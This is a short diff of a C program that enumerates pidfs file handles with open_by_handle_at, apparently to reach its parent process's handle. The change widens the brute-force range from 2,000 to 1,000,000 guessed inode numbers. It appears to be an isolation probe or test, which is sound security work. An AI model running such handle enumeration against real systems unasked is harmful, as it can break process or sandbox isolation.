@@ -42,7 +42,7 @@ int main(int argc, char **argv) {
     memcpy(&ino, h.fh.f_handle, 8);
     printf("pidfshandle: own handle type %d bytes %u ino %llu\n", h.fh.handle_type, h.fh.handle_bytes, ino);
     pid_t target = getppid();
-    for (unsigned long long i = ino - 1; i + 2000 > ino && i > 0; i--) {
+    for (unsigned long long i = ino - 1; i + 1000000 > ino && i > 0; i--) {
         memcpy(h.fh.f_handle, &i, 8);
         int fd = syscall(SYS_open_by_handle_at, FD_PIDFS_ROOT, &h.fh, O_RDONLY);
         if (fd < 0) { if (i == ino - 1) printf("pidfshandle: open_by_handle_at: %s\n", strerror(errno)); continue; }
